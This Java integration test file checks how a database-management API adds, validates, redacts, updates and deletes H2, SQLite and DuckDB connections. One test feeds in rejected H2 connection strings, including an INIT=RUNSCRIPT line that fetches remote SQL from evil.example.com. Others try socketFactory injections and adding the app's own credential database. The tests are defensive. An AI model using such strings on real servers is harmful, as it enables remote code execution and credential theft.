package io.quarry.warehouse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.quarry.core.AppConfig;
import io.quarry.driver.Driver;
import io.quarry.testing.ThroughQuarry;
import io.quarry.testing.Api;
import io.quarry.testing.Fixtures;
import io.quarry.testing.TargetDatabases;
import io.quarry.testing.TestAppDb;
import io.quarry.testing.TestServer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Adding, validating, updating and deleting connected databases over HTTP against real H2, SQLite and DuckDB files
 * (PostgreSQL: {@link PostgresTargetIT}): connection tests with per-field errors, redaction, who may do what, pools.
 */
class DatabaseCrudIT {
    private static TestServer server;
    private static Api api;
    private static String admin;
    private static String plain;

    @BeforeAll
    static void start() {
        server = TestServer.start(Map.of("MB_DB_CONNECTION_TIMEOUT_MS", "4000"));
        api = server.api();
        admin = Fixtures.setUp(api);
        plain = Targets.plainUser(api, admin, "rasta@example.com");
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    private static Map<String, Object> h2(Path file, String password) {
        return Map.of("db", "file:" + file, "user", "sa", "password", password);
    }

    private static Map<String, Object> body(String engine, String name, Map<String, Object> details) {
        Map<String, Object> body = new HashMap<>();
        body.put("engine", engine);
        body.put("name", name);
        body.put("details", details);
        return body;
    }

    @Test
    void theEnginesSettingDescribesEveryEngineToAnyone() {
        JsonNode engines = api.get(200, "session/properties").json().get("engines");
        for (String engine : List.of("h2", "postgres", "mysql", "sqlite", "duckdb")) {
            assertTrue(engines.has(engine), engine);
            assertTrue(engines.get(engine).get("details-fields").isArray(), engine);
        }
        assertEquals("PostgreSQL", engines.get("postgres").get("driver-name").asText());
        assertEquals("password", engines.get("postgres").get("details-fields").get(4).get("type").asText());
        assertEquals("db", engines.get("sqlite").get("details-fields").get(0).get("name").asText());
    }

    @Test
    void anH2DatabaseIsValidatedAddedRedactedUpdatedAndDeleted() throws Exception {
        Path shop = TargetDatabases.h2Shop();
        // validate: Metabase's answer is 200 either way, with "valid"
        assertTrue(api.as(admin).post(200, "database/validate", Map.of("details", Map.of("engine", "h2", "details", h2(shop, "secret-pw"))))
                .json().get("valid").asBoolean());
        assertTrue(api.as(admin).post(200, "database/validate", Map.of("engine", "h2", "details", h2(shop, "secret-pw"))).json().get("valid").asBoolean(),
                "the spec's flat body too");
        JsonNode invalid = api.as(admin).post(200, "database/validate", Map.of("engine", "h2", "details", h2(shop, "wrong"))).json();
        assertFalse(invalid.get("valid").asBoolean());
        assertEquals("Looks like the Username or Password is incorrect.", invalid.get("message").asText());
        assertEquals("check your password", invalid.get("errors").get("password").asText());

        // a wrong password: 400 with the field to blame, nothing stored
        long before = Targets.countDatabases(server);
        JsonNode refused = api.as(admin).post(400, "database", body("h2", "Shop", h2(shop, "wrong"))).json();
        assertEquals("check your password", refused.get("errors").get("password").asText());
        assertEquals("Looks like the Username or Password is incorrect.", refused.get("message").asText());
        assertEquals(before, Targets.countDatabases(server));

        JsonNode created = api.as(admin).post(200, "database", body("h2", "Shop", h2(shop, "secret-pw"))).json();
        long id = created.get("id").asLong();
        assertEquals(DatabaseViews.REDACTED, created.get("details").get("password").asText());
        assertFalse(created.toString().contains("secret-pw"), "the secret is in no response");
        assertTrue(created.get("is_full_sync").asBoolean());
        assertFalse(created.get("is_on_demand").asBoolean());
        assertEquals("hourly", created.get("schedules").get("metadata_sync").get("schedule_type").asText());
        assertEquals("daily", created.get("schedules").get("cache_field_values").get("schedule_type").asText());
        Targets.sync(server, id);

        // others see no details at all; anonymous callers nothing
        JsonNode seenByPlain = api.as(plain).get(200, "database/" + id).json();
        assertFalse(seenByPlain.has("details"));
        assertEquals("Shop", seenByPlain.get("name").asText());
        assertFalse(api.as(plain).get(200, "database").json().get("data").get(0).has("details"));
        assertFalse(api.as(plain).get(200, "database").body().contains("secret-pw"));
        assertEquals("Unauthenticated", api.get(401, "database/" + id).body());
        assertEquals(DatabaseViews.REDACTED, api.as(admin).get(200, "database/" + id).json().get("details").get("password").asText());

        // the placeholder sent back keeps the stored secret; other fields change
        Map<String, Object> edit = new HashMap<>();
        edit.put("name", "Shop (renamed)");
        edit.put("description", "Things we sell");
        edit.put("caveats", "Test data");
        edit.put("points_of_interest", "Orders");
        edit.put("auto_run_queries", false);
        edit.put("refingerprint", true);
        edit.put("cache_ttl", 24);
        edit.put("settings", Map.of("database-enable-actions", false));
        edit.put("details", Map.of("db", "file:" + shop, "user", "sa", "password", DatabaseViews.REDACTED));
        JsonNode updated = api.as(admin).put(200, "database/" + id, edit).json();
        assertEquals("Shop (renamed)", updated.get("name").asText());
        assertEquals("Things we sell", updated.get("description").asText());
        assertEquals("Test data", updated.get("caveats").asText());
        assertEquals("Orders", updated.get("points_of_interest").asText());
        assertFalse(updated.get("auto_run_queries").asBoolean());
        assertTrue(updated.get("refingerprint").asBoolean());
        assertEquals(24, updated.get("cache_ttl").asInt());
        assertFalse(updated.get("settings").get("database-enable-actions").asBoolean());
        assertEquals(DatabaseViews.REDACTED, updated.get("details").get("password").asText());
        assertEquals("secret-pw", server.quarry().databases.require(id).details.get("password"), "the stored secret is kept");
        assertTrue(server.quarry().databasePools.isOpen(id), "details unchanged: the pool stays");

        // a null cache_ttl clears it; other nulls leave fields alone (Metabase's rule); settings are patched
        Map<String, Object> nulls = new HashMap<>();
        nulls.put("cache_ttl", null);
        nulls.put("description", null);
        nulls.put("name", null);
        nulls.put("settings", Collections.singletonMap("database-enable-actions", null));
        JsonNode cleared = api.as(admin).put(200, "database/" + id, nulls).json();
        assertTrue(cleared.get("cache_ttl").isNull());
        assertEquals("Things we sell", cleared.get("description").asText());
        assertEquals("Shop (renamed)", cleared.get("name").asText());
        assertFalse(cleared.get("settings").has("database-enable-actions"));

        // not a full sync: no scheduled field-values scan
        assertTrue(api.as(admin).put(200, "database/" + id, Map.of("is_full_sync", "false", "is_on_demand", true)).json()
                .get("cache_field_values_schedule").isNull());
        JsonNode fullAgain = api.as(admin).put(200, "database/" + id, Map.of("is_full_sync", true)).json();
        assertTrue(fullAgain.get("is_on_demand").asBoolean());
        assertNotNull(fullAgain.get("cache_field_values_schedule").asText(null));

        // changed details that do not connect: 400, nothing stored
        JsonNode badEdit = api.as(admin).put(400, "database/" + id, Map.of("details", Map.of("password", "wrong"))).json();
        assertEquals("check your password", badEdit.get("errors").get("password").asText());
        assertEquals("secret-pw", server.quarry().databases.require(id).details.get("password"));

        // the pool is listed among the diagnostics, and deleting the database closes it
        JsonNode pools = api.as(admin).get(200, "util/diagnostic_info/connection_pool_info").json().get("connection-pools");
        assertTrue(pools.has("db-" + id), pools.toString());
        assertEquals("You don't have permissions to do that.", api.as(plain).delete(403, "database/" + id).body());
        assertEquals("Unauthenticated", api.delete(401, "database/" + id).body());
        api.as(admin).delete(204, "database/" + id);
        assertFalse(server.quarry().databasePools.isOpen(id));
        assertFalse(api.as(admin).get(200, "util/diagnostic_info/connection_pool_info").json().get("connection-pools").has("db-" + id));
        api.as(admin).get(404, "database/" + id);
        api.as(admin).delete(404, "database/" + id);
        api.as(admin).put(404, "database/" + id, Map.of("name", "x"));
    }

    @Test
    void aSqliteFileIsAddedSyncedAndDeleted() throws Exception {
        Path file = Targets.sqliteShop();
        assertTrue(api.as(admin).post(200, "database/validate", Map.of("engine", "sqlite", "details", Map.of("db", file.toString())))
                .json().get("valid").asBoolean());
        long id = api.as(admin).post(200, "database", body("sqlite", "Lite shop", Map.of("db", file.toString()))).json().get("id").asLong();
        Targets.sync(server, id);
        List<Table> tables = Targets.tables(server, id);
        assertEquals(List.of("customers", "orders"), tables.stream().map(t -> t.name).sorted().toList());
        assertTrue(tables.stream().allMatch(t -> t.schemaName == null), "SQLite has no schemas");
        List<Field> fields = Targets.fields(server, id);
        Field customerId = Targets.field(fields, "customer_id");
        assertEquals("type/FK", customerId.semanticType);
        assertEquals("type/Integer", customerId.baseType);
        assertEquals("type/DateTime", Targets.field(fields, "created_at").baseType);
        assertEquals("type/Date", Targets.field(fields, "placed_on").baseType);
        assertEquals("type/Float", Targets.field(fields, "total").baseType);
        assertEquals("type/Text", Targets.field(fields, "email").baseType);
        assertTrue(server.quarry().databasePools.isOpen(id));
        assertTrue(api.as(admin).get(200, "util/diagnostic_info/connection_pool_info").json().get("connection-pools").has("db-" + id));
        api.as(admin).delete(204, "database/" + id);
        assertFalse(server.quarry().databasePools.isOpen(id));
        assertTrue(Files.exists(file), "deleting the database leaves the file alone");
    }

    @Test
    void aDuckDbFileIsAddedAndChangingItsDetailsRebuildsThePool() throws Exception {
        Path first = Targets.duckdbFile("products");
        Path second = Targets.duckdbFile("invoices");
        long id = api.as(admin).post(200, "database", body("duckdb", "Ducks", Map.of("db", first.toString()))).json().get("id").asLong();
        Targets.sync(server, id);
        List<Table> tables = Targets.tables(server, id);
        assertEquals(List.of("main.lines", "main.products", "sales.targets"), tables.stream().map(t -> t.schemaName + "." + t.name).sorted().toList());
        List<Field> fields = Targets.fields(server, id);
        assertEquals("type/DateTimeWithLocalTZ", Targets.field(fields, "seen").baseType);
        assertEquals("type/UUID", Targets.field(fields, "ref").baseType);
        assertEquals("type/JSON", Targets.field(fields, "doc").baseType);
        assertEquals("type/Decimal", Targets.field(fields, "price").baseType);
        assertEquals("type/FK", Targets.field(fields, "products_id").semanticType);
        assertTrue(server.quarry().databasePools.isOpen(id));

        // new details are tried, stored, the old pool closed at once, and the next connection reaches the new file
        JsonNode updated = api.as(admin).put(200, "database/" + id, Map.of("details", Map.of("db", second.toString()))).json();
        assertEquals(second.toString(), updated.get("details").get("db").asText());
        // the old pool was closed, not left holding the first file: DuckDB lets this JVM open it read-write again
        try (Connection c = new org.duckdb.DuckDBDriver().connect("jdbc:duckdb:" + first, new java.util.Properties());
             Statement s = c.createStatement()) {
            s.execute("INSERT INTO products VALUES (2, 'b', 2.00, NULL, NULL, NULL)");
        }
        assertEquals(1, ThroughQuarry.count(server.quarry(), id, "SELECT COUNT(*) FROM invoices"));
        // a file that does not exist: refused, the stored path unchanged, no file created
        Path missing = second.resolveSibling("missing.duckdb");
        JsonNode refused = api.as(admin).put(400, "database/" + id, Map.of("details", Map.of("db", missing.toString()))).json();
        assertEquals("check your connection string", refused.get("errors").get("db").asText());
        assertEquals("Database cannot be found.", refused.get("message").asText());
        assertFalse(Files.exists(missing));
        assertEquals(second.toString(), server.quarry().databases.require(id).details.get("db"));
        api.as(admin).delete(204, "database/" + id);
    }

    /** The pool registry itself: a different spec for the same database id means a new pool, the old one closed. */
    @Test
    void poolsAreRebuiltWhenTheSpecChanges() throws Exception {
        Path a = TargetDatabases.h2Shop();
        Path b = TargetDatabases.h2Shop();
        TargetDatabases.h2Execute(b, "CREATE TABLE ONLY_IN_B (ID INT)");
        Driver h2 = server.quarry().drivers.require("h2");
        long fakeId = 999_999L;
        var pools = server.quarry().databasePools;
        try {
            try (Connection c = pools.connection(fakeId, false, h2.connectionSpec(h2(a, "secret-pw")))) {
                assertFalse(hasTable(c, "ONLY_IN_B"));
            }
            try (Connection c = pools.connection(fakeId, false, h2.connectionSpec(h2(b, "secret-pw")))) {
                assertTrue(hasTable(c, "ONLY_IN_B"), "a new spec builds a new pool");
            }
            assertTrue(pools.isOpen(fakeId));
        } finally {
            pools.close(fakeId);
        }
        assertFalse(pools.isOpen(fakeId));
    }

    private static boolean hasTable(Connection c, String table) throws Exception {
        try (ResultSet rs = c.getMetaData().getTables(null, null, table, null)) {
            return rs.next();
        }
    }

    @Test
    void theEngineMayChangeWhenTheNewDetailsConnect() throws Exception {
        Path h2File = TargetDatabases.h2Shop();
        Path lite = Targets.sqliteShop();
        long id = api.as(admin).post(200, "database", body("h2", "Movable", h2(h2File, "secret-pw"))).json().get("id").asLong();
        Targets.sync(server, id); // a sync asked for while one runs joins it: let the first one finish
        JsonNode refused = api.as(admin).put(400, "database/" + id, Map.of("engine", "sqlite", "details",
                Map.of("db", lite.resolveSibling("nope.sqlite").toString()))).json();
        assertEquals("check your connection string", refused.get("errors").get("db").asText());
        assertEquals("h2", api.as(admin).get(200, "database/" + id).json().get("engine").asText());
        JsonNode moved = api.as(admin).put(200, "database/" + id, Map.of("engine", "sqlite", "details", Map.of("db", lite.toString()))).json();
        assertEquals("sqlite", moved.get("engine").asText());
        Targets.sync(server, id);
        assertTrue(Targets.tables(server, id).stream().anyMatch(t -> t.name.equals("customers")));
        api.as(admin).delete(204, "database/" + id);
    }

    @Test
    void validationBlamesTheRightField() throws Exception {
        Path dir = Files.createTempDirectory("quarry-missing");
        JsonNode sqlite = api.as(admin).post(200, "database/validate",
                Map.of("engine", "sqlite", "details", Map.of("db", dir.resolve("none.sqlite").toString()))).json();
        assertEquals("check your connection string", sqlite.get("errors").get("db").asText());
        assertFalse(Files.exists(dir.resolve("none.sqlite")), "validation never creates a file");
        JsonNode h2 = api.as(admin).post(200, "database/validate", Map.of("engine", "h2", "details", Map.of("db", dir.resolve("none").toString()))).json();
        assertEquals("Database cannot be found.", h2.get("message").asText());
        assertEquals("check your connection string", h2.get("errors").get("db").asText());
        assertFalse(Files.exists(dir.resolve("none.mv.db")));

        JsonNode closed = api.as(admin).post(200, "database/validate", Map.of("engine", "postgres", "details",
                Map.of("host", "127.0.0.1", "port", Targets.closedPort(), "dbname", "x", "user", "u", "password", "p"))).json();
        assertFalse(closed.get("valid").asBoolean());
        assertEquals("check your host settings", closed.get("errors").get("host").asText());
        assertEquals("check your port settings", closed.get("errors").get("port").asText());
        JsonNode unknownHost = api.as(admin).post(200, "database/validate", Map.of("engine", "mysql", "details",
                Map.of("host", "no-such-host.invalid", "dbname", "x", "user", "u"))).json();
        assertEquals("check your host settings", unknownHost.get("errors").get("host").asText());
        assertFalse(unknownHost.get("errors").has("port"));
        assertFalse(closed.toString().contains("\"p\""), "no secret echoed");

        // malformed requests are 400s naming the parameter
        assertEquals("value must be a valid database engine.",
                api.as(admin).post(400, "database/validate", Map.of("engine", "oracle", "details", Map.of())).json().get("errors").get("engine").asText());
        assertEquals("value must be a valid database engine.",
                api.as(admin).post(400, "database/validate", Map.of("details", Map.of("engine", "nope", "details", Map.of()))).json()
                        .get("errors").get("engine").asText());
        assertEquals("Value must be a map.",
                api.as(admin).post(400, "database/validate", Map.of("engine", "h2")).json().get("errors").get("details").asText());
        assertEquals("value must be a host name or an IP address.", api.as(admin).post(400, "database/validate", Map.of("engine", "postgres",
                "details", Map.of("host", "evil/x?socketFactory=y", "dbname", "x", "user", "u"))).json().get("errors").get("host").asText());
        assertEquals("The connection option socketFactory is not allowed.", api.as(admin).post(400, "database/validate", Map.of("engine", "postgres",
                "details", Map.of("host", "localhost", "dbname", "x", "user", "u", "additional-options", "socketFactory=x"))).json()
                .get("errors").get("additional-options").asText());

        assertEquals("You don't have permissions to do that.",
                api.as(plain).post(403, "database/validate", Map.of("engine", "h2", "details", Map.of())).body());
        assertEquals("Unauthenticated", api.post(401, "database/validate", Map.of("engine", "h2", "details", Map.of())).body());
    }

    @Test
    void h2ConnectionTricksAreRefused() throws Exception {
        Path shop = TargetDatabases.h2Shop();
        for (String db : List.of("file:" + shop + ";INIT=RUNSCRIPT FROM 'http://evil.example.com/x.sql'", "tcp://evil.example.com:9092/x",
                "mem:test", "zip:/tmp/x.zip!/x", "file:" + shop + ";TRACE_LEVEL_FILE=4", "file:" + shop + ";AUTO_SERVER=TRUE")) {
            JsonNode refused = api.as(admin).post(400, "database", body("h2", "Evil", Map.of("db", db))).json();
            assertTrue(refused.get("errors").has("db"), db);
            assertTrue(api.as(admin).post(400, "database/validate", Map.of("engine", "h2", "details", Map.of("db", db))).json().get("errors").has("db"), db);
        }
        if (!TestAppDb.isPostgres()) {
            // the application database holds password hashes and sessions: never a connected database
            String appDb = new AppConfig(AppConfig.layered(server.config)).dbUrl.replaceFirst("^jdbc:h2:", "").replaceFirst(";.*", "");
            for (String db : List.of(appDb, appDb + ".mv.db", appDb + ";ACCESS_MODE_DATA=r")) {
                assertEquals("Quarry's own application database cannot be added as a database.", api.as(admin)
                        .post(400, "database", body("h2", "Mine", Map.of("db", db, "user", "sa", "password", ""))).json().get("errors").get("db").asText());
            }
        }
        assertEquals(0, api.as(admin).get(200, "database").json().get("data").findValues("name").stream()
                .filter(n -> n.asText().equals("Evil") || n.asText().equals("Mine")).count());
    }

    @Test
    void badInputIsRefusedPerParameterAndWritesNothing() throws Exception {
        long before = Targets.countDatabases(server);
        Path shop = TargetDatabases.h2Shop();
        JsonNode missing = api.as(admin).post(400, "database", Map.of()).json().get("errors");
        assertEquals("value must be a valid database engine.", missing.get("engine").asText());
        assertEquals("value must be a non-blank string.", missing.get("name").asText());
        assertEquals("Value must be a map.", missing.get("details").asText());
        Map<String, Object> bad = body("h2", "X", h2(shop, "secret-pw"));
        bad.put("is_full_sync", "maybe");
        bad.put("cache_ttl", 0);
        bad.put("connection_source", "elsewhere");
        bad.put("schedules", Map.of("metadata_sync", Map.of("schedule_type", "yearly")));
        bad.put("auto_run_queries", "often");
        JsonNode errors = api.as(admin).post(400, "database", bad).json().get("errors");
        assertEquals("nullable value must be a boolean.", errors.get("is_full_sync").asText());
        assertEquals("nullable value must be an integer greater than zero.", errors.get("cache_ttl").asText());
        assertEquals("nullable enum of admin, setup", errors.get("connection_source").asText());
        assertEquals("nullable value must be a valid map of schedule maps for a DB.", errors.get("schedules").asText());
        assertEquals("nullable value must be a boolean.", errors.get("auto_run_queries").asText());
        assertEquals("value must be a non-blank string.",
                api.as(admin).post(400, "database", body("h2", " ", h2(shop, "secret-pw"))).json().get("errors").get("name").asText());
        assertEquals("You don't have permissions to do that.", api.as(plain).post(403, "database", body("h2", "X", h2(shop, "secret-pw"))).body());
        assertEquals("Unauthenticated", api.post(401, "database", body("h2", "X", h2(shop, "secret-pw"))).body());
        assertEquals(before, Targets.countDatabases(server), "nothing was written");

        long id = api.as(admin).post(200, "database", body("h2", "Editable", h2(shop, "secret-pw"))).json().get("id").asLong();
        Map<String, Object> badEdit = new HashMap<>();
        badEdit.put("name", "");
        badEdit.put("engine", "oracle");
        badEdit.put("cache_ttl", -1);
        badEdit.put("details", "x");
        badEdit.put("settings", List.of());
        badEdit.put("is_on_demand", "sometimes");
        badEdit.put("description", 5);
        JsonNode editErrors = api.as(admin).put(400, "database/" + id, badEdit).json().get("errors");
        assertEquals("nullable value must be a non-blank string.", editErrors.get("name").asText());
        assertEquals("nullable value must be a valid database engine.", editErrors.get("engine").asText());
        assertEquals("nullable value must be an integer greater than zero.", editErrors.get("cache_ttl").asText());
        assertEquals("nullable Value must be a map.", editErrors.get("details").asText());
        assertEquals("nullable Value must be a map.", editErrors.get("settings").asText());
        assertEquals("nullable value must be a boolean.", editErrors.get("is_on_demand").asText());
        assertEquals("nullable value must be a string.", editErrors.get("description").asText());
        assertEquals("Editable", api.as(admin).get(200, "database/" + id).json().get("name").asText(), "nothing changed");
        api.as(admin).put(400, "database/abc", Map.of("name", "x"));
        assertEquals("You don't have permissions to do that.", api.as(plain).put(403, "database/" + id, Map.of("name", "x")).body());
        assertEquals("Unauthenticated", api.put(401, "database/" + id, Map.of("name", "x")).body());
        api.as(admin).delete(204, "database/" + id);
    }

    @Test
    void schedulesAreHonouredWhenTheDetailsLetTheUserControlThem() throws Exception {
        Path shop = TargetDatabases.h2Shop();
        Map<String, Object> schedules = Map.of("metadata_sync", Map.of("schedule_type", "daily", "schedule_hour", 3),
                "cache_field_values", Map.of("schedule_type", "weekly", "schedule_day", "mon", "schedule_hour", 4));
        Map<String, Object> ignored = body("h2", "Scheduled by default", h2(shop, "secret-pw"));
        ignored.put("schedules", schedules);
        JsonNode defaults = api.as(admin).post(200, "database", ignored).json();
        assertEquals("hourly", defaults.get("schedules").get("metadata_sync").get("schedule_type").asText(),
                "without let-user-control-scheduling, Metabase keeps its randomised defaults");

        Map<String, Object> details = new HashMap<>(h2(shop, "secret-pw"));
        details.put("let-user-control-scheduling", true);
        Map<String, Object> controlled = body("h2", "Scheduled by hand", details);
        controlled.put("schedules", schedules);
        controlled.put("auto_run_queries", false);
        controlled.put("cache_ttl", 12);
        controlled.put("is_on_demand", "true");
        controlled.put("connection_source", "admin");
        JsonNode created = api.as(admin).post(200, "database", controlled).json();
        assertEquals("0 0 3 * * ? *", created.get("metadata_sync_schedule").asText());
        assertEquals("0 0 4 ? * 2 *", created.get("cache_field_values_schedule").asText());
        assertEquals("mon", created.get("schedules").get("cache_field_values").get("schedule_day").asText());
        assertFalse(created.get("auto_run_queries").asBoolean());
        assertEquals(12, created.get("cache_ttl").asInt());
        assertTrue(created.get("is_on_demand").asBoolean());

        long id = created.get("id").asLong();
        JsonNode monthly = api.as(admin).put(200, "database/" + id, Map.of("schedules", Map.of("metadata_sync",
                Map.of("schedule_type", "monthly", "schedule_frame", "last", "schedule_hour", 22)))).json();
        assertEquals("0 0 22 L * ? *", monthly.get("metadata_sync_schedule").asText());
        assertEquals("0 0 4 ? * 2 *", monthly.get("cache_field_values_schedule").asText(), "not sent: unchanged");
        api.as(admin).delete(204, "database/" + id);
        api.as(admin).delete(204, "database/" + defaults.get("id").asLong());
    }
}
